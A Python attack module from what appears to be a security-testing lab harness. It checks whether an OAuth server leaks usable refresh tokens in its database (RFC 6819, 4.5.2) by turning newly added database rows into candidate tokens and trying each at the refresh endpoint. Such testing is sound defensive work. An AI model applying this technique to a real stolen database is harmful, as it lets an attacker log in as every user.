"""Renew with what a stolen copy of the database holds.

Exploits refresh tokens that are stored in clear, or a server that takes their hash for them. A
backup, a log or an injection then logs the thief in as everyone.
Source: RFC 6819, section 4.5.2 Threat: Obtaining Refresh Token from Authorization Server Database,
https://www.rfc-editor.org/rfc/rfc6819#section-4.5.2
"""

import re
from collections.abc import Iterable, Iterator
from itertools import permutations, product
from uuid import UUID

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, judge, refused
from attacks.lab.rows import rows
from attacks.lab.target import Target


def forms(value: object) -> list[str]:
    """Write a value as a token may hold it; SQLite keeps a UUID as 32 digits."""
    text = str(value)
    return [text, str(UUID(text))] if re.fullmatch(r"[0-9a-f]{32}", text) else [text]


def guesses(left: Iterable[tuple[object, ...]]) -> Iterator[str]:
    """Make tokens of rows: each value alone, and two of them with a dot between."""
    for row in left:
        for value in row:
            yield from forms(value)
        for pair in permutations(row, 2):
            yield from map(".".join, product(*map(forms, pair)))


def left_by_a_login(target: Target) -> list[tuple[object, ...]]:
    """Log in as a new victim, and return the rows that are new in the database."""
    victim = target.enrol()
    before = set(rows(target.leaked_database()))
    target.refresh_token_of(victim)
    return [row for row in rows(target.leaked_database()) if row not in before]


@attack()
def run(target: Target) -> Outcome:
    """Try each of them after a new login, as a wrong one may end the log-in that it names."""
    count = len(list(guesses(left_by_a_login(target))))
    answers = {}
    for number in range(count):
        guess = list(guesses(left_by_a_login(target)))[number]
        answers[f"guess {number + 1} of {count}"] = target.refresh(guess)
    return judge(answers) if answers else refused("a login leaves nothing in the database")
